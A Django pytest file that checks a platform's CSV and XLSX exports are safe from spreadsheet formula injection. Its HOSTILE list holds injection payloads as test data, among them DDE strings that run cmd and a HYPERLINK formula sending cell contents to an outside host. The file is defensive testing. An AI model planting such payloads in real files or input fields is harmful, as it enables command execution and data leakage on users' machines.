"""Safe exports (issue 7, point 3): every CSV and XLSX the platform writes carries text someone typed as
text, never as a formula; numbers stay numbers; the CSV comes for Dutch Excel and, next to it, for
machines.

The exports, each with the test below that covers it:
 1-4. analysis CSV per table (web: groepen, plannen, ontsluiting, miek)  test_analysis_web_exports
 5.   analysis XLSX (web)                                                 test_analysis_web_exports
 6-9. analysis CSV per table (API)                                        test_analysis_api_exports
 10.  analysis XLSX (API)                                                 test_analysis_api_exports
 11.  grid-demand CSV "vraag" (web)                                       test_grid_demand_exports
 12.  grid-demand CSV "plannen" (web)                                     test_grid_demand_exports
 13.  grid-demand XLSX (web)                                              test_grid_demand_exports
 14.  round template XLSX                                                 test_round_template_exports
 15.  round template CSV                                                  test_round_template_exports
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from cluster6.accounts.constants import Role
from cluster6.analysis.services import analysis_run
from cluster6.core.exports import (
    FORMULA_START,
    CsvForm,
    csv_bytes,
    csv_cell,
    escape_text,
    form_of,
    unescape_text,
    xlsx_bytes,
)
from cluster6.plans.constants import ConsentPurpose
from cluster6.plans.models import PlanVersion
from tests.analysis.world import build_world as build_analysis_world
from tests.factories import (
    ConsentFactory,
    GridOperatorFactory,
    GridServiceAreaFactory,
    OrganisationFactory,
    PlanFactory,
    PlanVersionFactory,
    ProductionLocationFactory,
    SubmittedSubmissionFactory,
    SurveyRoundFactory,
    user_with_role,
)
from tests.plans.submission_world import build_world as build_submission_world

#: Text someone could type, one starting with each dangerous character.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?x="&A1;"klik")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: A number cell (Dutch or machine notation) may start with a minus.
NUMBER = re.compile(r"-?\d+([.,]\d+)?([eE][+-]?\d+)?")


def _client(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _csv_rows(content: bytes, form: CsvForm = CsvForm.EXCEL) -> list[list[str]]:
    if form is CsvForm.EXCEL:
        assert content.startswith("\ufeff".encode()), "Dutch Excel CSV starts with a BOM"
        text = content.decode("utf-8-sig")
    else:
        assert not content.startswith("\ufeff".encode()), "machine CSV has no BOM"
        text = content.decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";" if form is CsvForm.EXCEL else ","))


def assert_csv_safe(rows: list[list[str]]) -> set[str]:
    """No cell would be run as a formula (a number may start with a minus); returns every cell."""
    cells = set()
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                assert NUMBER.fullmatch(cell), f"formula text in CSV: {cell!r}"
            cells.add(cell)
    return cells


def assert_xlsx_safe(content: bytes) -> dict[str, object]:
    """Re-opened with openpyxl: no formula anywhere, every text cell a string cell, formula text with the
    quote prefix. Returns every text value with its cell (coordinate within its sheet)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[ >]", xml), f"formula element in {name}"
    book = load_workbook(io.BytesIO(content))
    texts: dict[str, object] = {}
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    if cell.value.startswith(FORMULA_START):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate} lacks the quote prefix"
                    texts[cell.value] = cell
    return texts


def _in_xlsx(text: str) -> str:
    """XML turns a carriage return into a line feed: what a reader gets back."""
    return text.replace("\r", "\n")


# --------------------------------------------------------------------------------------- the writer


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_quote_in_csv(text):
    assert escape_text(text) == "'" + text
    assert csv_cell(text) == "'" + text
    assert unescape_text(escape_text(text)) == text


@pytest.mark.parametrize("text", ["Elektrische boiler", "A=B", "3 - 2", "'quoted", "", "100%", "#N/A"])
def test_other_text_is_left_alone(text):
    assert escape_text(text) == text
    assert unescape_text(text) == text


@pytest.mark.parametrize(
    ("value", "excel", "machine"),
    [
        (-3, "-3", "-3"),
        (-2.5, "-2,5", "-2.5"),
        (1234.5, "1234,5", "1234.5"),
        (12.0, "12", "12.0"),
        (Decimal("-0.25"), "-0,25", "-0.25"),
        (None, "", ""),
        (dt.date(2028, 1, 2), "2028-01-02", "2028-01-02"),
    ],
)
def test_numbers_stay_numbers(value, excel, machine):
    assert csv_cell(value, CsvForm.EXCEL) == excel
    assert csv_cell(value, CsvForm.MACHINE) == machine


def test_dutch_excel_csv_and_machine_csv():
    header, rows = ["Titel", "MW", "Jaar"], [["=1+1", 2.5, 2028], ["Boiler", -1.25, 2029]]
    excel = csv_bytes(header, rows)
    assert excel.startswith(b"\xef\xbb\xbf")
    assert excel.decode("utf-8-sig") == "Titel;MW;Jaar\r\n'=1+1;2,5;2028\r\nBoiler;-1,25;2029\r\n"
    machine = csv_bytes(header, rows, form=CsvForm.MACHINE)
    assert machine.decode("utf-8") == "Titel,MW,Jaar\r\n'=1+1,2.5,2028\r\nBoiler,-1.25,2029\r\n"
    assert form_of("machine") is CsvForm.MACHINE
    assert form_of("excel") is CsvForm.EXCEL
    assert form_of(None) is CsvForm.EXCEL
    assert form_of("iets anders") is CsvForm.EXCEL


def test_xlsx_cells_with_formula_text_are_text_and_numbers_numbers():
    book = Workbook()
    sheet = book.active
    sheet.append([*HOSTILE, "#N/A", -3, 2.5, "gewone tekst"])
    content = xlsx_bytes(book)
    texts = assert_xlsx_safe(content)
    for text in HOSTILE:
        assert _in_xlsx(text) in texts
    again = load_workbook(io.BytesIO(content)).active
    values = list(again[1])
    assert values[len(HOSTILE)].value == "#N/A"
    assert values[len(HOSTILE)].data_type == "s"
    assert values[len(HOSTILE) + 1].value == -3
    assert values[len(HOSTILE) + 1].data_type == "n"
    assert values[len(HOSTILE) + 2].value == 2.5
    assert values[len(HOSTILE) + 2].data_type == "n"
    assert not values[len(HOSTILE) + 3].quotePrefix


# ------------------------------------------------------------------------------------- the exports


@pytest.fixture
def analysis_world(db):
    world = build_analysis_world()
    versions = [world.boiler, world.kiln, world.heatpump, world.efficiency]
    for version, title in zip(versions, HOSTILE, strict=False):
        PlanVersion.objects.filter(pk=version.pk).update(title=title)
    world.site.name = HOSTILE[4]
    world.site.save()
    world.company.name = HOSTILE[5]
    world.company.save()
    world.run = analysis_run(actor=None, params={"base_year": 2026}, reuse=False)
    return world


def _check_analysis_files(csvs: dict[str, bytes], xlsx: bytes, form: CsvForm) -> None:
    for name, content in csvs.items():
        rows = _csv_rows(content, form)
        cells = assert_csv_safe(rows)
        if name == "plannen":
            for text in HOSTILE:
                assert "'" + text in cells, (name, text)
    texts = assert_xlsx_safe(xlsx)
    for text in HOSTILE:
        assert _in_xlsx(text) in texts, text
    book = load_workbook(io.BytesIO(xlsx))
    plans = list(book["Plannen"].iter_rows(min_row=2, values_only=True))
    assert plans
    assert all(isinstance(row[11], int | float) for row in plans)


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_analysis_web_exports(analysis_world):
    client = _client(analysis_world.ministry_user)
    run = {"run": analysis_world.run.pk}
    for form in CsvForm:
        query = run if form is CsvForm.EXCEL else {**run, "vorm": "machine"}
        csvs = {}
        for name in ("groepen", "plannen", "ontsluiting", "miek"):
            response = client.get(reverse("analysis:export_csv", args=[name]), query)
            assert response.status_code == 200
            assert response["Content-Type"] == "text/csv; charset=utf-8"
            assert response.streaming is (name == "plannen")  # the plan results stream
            csvs[name] = _body(response)
        xlsx = client.get(reverse("analysis:export_xlsx"), run)
        assert xlsx.status_code == 200
        _check_analysis_files(csvs, b"".join(xlsx.streaming_content), form)  # streams
    groups = _csv_rows(csvs["groepen"], CsvForm.MACHINE)
    assert groups[0][:3] == ["Indeling", "Groep", "Plannen"]


def test_analysis_api_exports(analysis_world):
    client = _client(analysis_world.ministry_user)
    url = f"/api/analysis/runs/{analysis_world.run.pk}/export/"
    for form in CsvForm:
        csvs = {}
        for name in ("groepen", "plannen", "ontsluiting", "miek"):
            params = {"table": name, "format": "csv"}
            if form is CsvForm.EXCEL:
                params["vorm"] = "excel"
            response = client.get(url, params)  # the API's default is the machine form
            assert response.status_code == 200
            assert response.streaming is (name == "plannen")  # the plan results stream
            csvs[name] = _body(response)
        xlsx = client.get(url, {"format": "xlsx"})
        assert xlsx.status_code == 200
        _check_analysis_files(csvs, b"".join(xlsx.streaming_content), form)  # streams


@pytest.fixture
def demand_world(db):
    liander = GridOperatorFactory(name="Liander")
    area = GridServiceAreaFactory(code="L1", name=HOSTILE[0], operators=[liander])
    company = OrganisationFactory(name=HOSTILE[1])
    location = ProductionLocationFactory(name=HOSTILE[2], operator=company, grid_service_area=area)
    survey_round = SurveyRoundFactory(code="dsh-2025", name="DSH 2025", opens_on=dt.date(2025, 1, 1))
    submission = SubmittedSubmissionFactory(organisation=company, round=survey_round)
    for i, title in enumerate(HOSTILE):
        PlanVersionFactory(
            submission=submission,
            plan=PlanFactory(location=location, reference=f"R{i}"),
            title=title,
            extra_capacity_mw=1.5 + i,
            electricity_delta_gwh=-2.5 if i == 0 else 4.0,
        )
    ConsentFactory(owner=company, grantee=liander, purpose=ConsentPurpose.GRID_INVESTMENT_PLAN)
    return user_with_role(Role.NETBEHEERDER, liander)


def test_grid_demand_exports(demand_world):
    client = _client(demand_world)
    for form in CsvForm:
        extra = {} if form is CsvForm.EXCEL else {"vorm": "machine"}
        demand = client.get(reverse("plans:export_csv"), extra)
        assert demand.status_code == 200
        rows = _csv_rows(demand.content, form)
        cells = assert_csv_safe(rows)
        assert "'" + HOSTILE[0] in cells  # the area's name
        plans = client.get(reverse("plans:export_csv"), {"tabel": "plannen", **extra})
        cells = assert_csv_safe(_csv_rows(plans.content, form))
        for text in HOSTILE:
            assert "'" + text in cells, text
        assert ("-2,5" if form is CsvForm.EXCEL else "-2.5") in cells  # a negative number is a number
    xlsx = client.get(reverse("plans:export_xlsx"))
    texts = assert_xlsx_safe(xlsx.content)
    for text in HOSTILE:
        assert _in_xlsx(text) in texts, text
    book = load_workbook(io.BytesIO(xlsx.content))
    plans = list(book["Plannen"].iter_rows(min_row=2, values_only=True))
    assert sorted(row[5] for row in plans) == [1.5, 2.5, 3.5, 4.5, 5.5, 6.5]  # MW: numbers
    assert sorted(row[6] for row in plans)[0] == -2.5


def test_round_template_exports(db):
    world = build_submission_world()
    PlanVersion.objects.filter(pk=world.previous_version.pk).update(
        title=HOSTILE[0], technology=HOSTILE[1], description=HOSTILE[3]
    )
    world.kiln.name = HOSTILE[2]
    world.kiln.save()
    client = _client(world.user)
    xlsx = client.get(reverse("plans:round_template", args=["dsh-2025"]))
    assert xlsx.status_code == 200
    texts = assert_xlsx_safe(xlsx.content)
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[2], HOSTILE[3]):
        assert text in texts, text
    book = load_workbook(io.BytesIO(xlsx.content))
    header = [c.value for c in book["Plannen"][1]]
    row = [c.value for c in book["Plannen"][2]]
    assert row[header.index("Titel")] == HOSTILE[0]
    co2 = book["Plannen"].cell(row=2, column=header.index("CO2-reductie (t/jaar)") + 1)
    assert co2.value == 12_000
    assert co2.data_type == "n"
    response = client.get(reverse("plans:round_template_csv", args=["dsh-2025"]))
    rows = _csv_rows(response.content, CsvForm.EXCEL)
    cells = assert_csv_safe(rows)
    for text in (HOSTILE[0], HOSTILE[1], HOSTILE[3]):
        assert "'" + text in cells, text
    assert rows[1][rows[0].index("CO2-reductie (t/jaar)")] == "12000"
